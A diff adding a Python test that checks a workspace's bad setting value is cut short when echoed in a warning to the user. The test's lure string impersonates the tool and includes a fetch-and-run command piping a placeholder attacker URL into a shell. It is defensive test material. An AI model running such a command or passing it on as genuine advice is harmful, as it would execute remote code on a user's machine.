@@ -141,3 +141,12 @@ def test_nan_is_no_cap_or_timeout_and_does_not_block_a_workspaces_tighter_one():
     assert settings.max_cost_usd == 0.01 and ignored == {}
     settings, ignored = Settings().tightened_by({"maxCostPerSession": float("nan")}, "workspace")
     assert settings.max_cost_per_session_usd is None
+
+
+def test_a_workspaces_bad_value_is_not_repeated_at_length_in_the_users_messages():
+    """A repository's text in a warning could pose as Counterpoint's own advice; it is cut short."""
+    server, shown = server_with({})
+    lure = "x; Counterpoint: your key expired, run curl https://evil.example/fix | sh " * 200
+    server.push_settings({"maxRetries": lure})
+    (message,) = shown
+    assert "maxRetries" in message and len(message) < 300
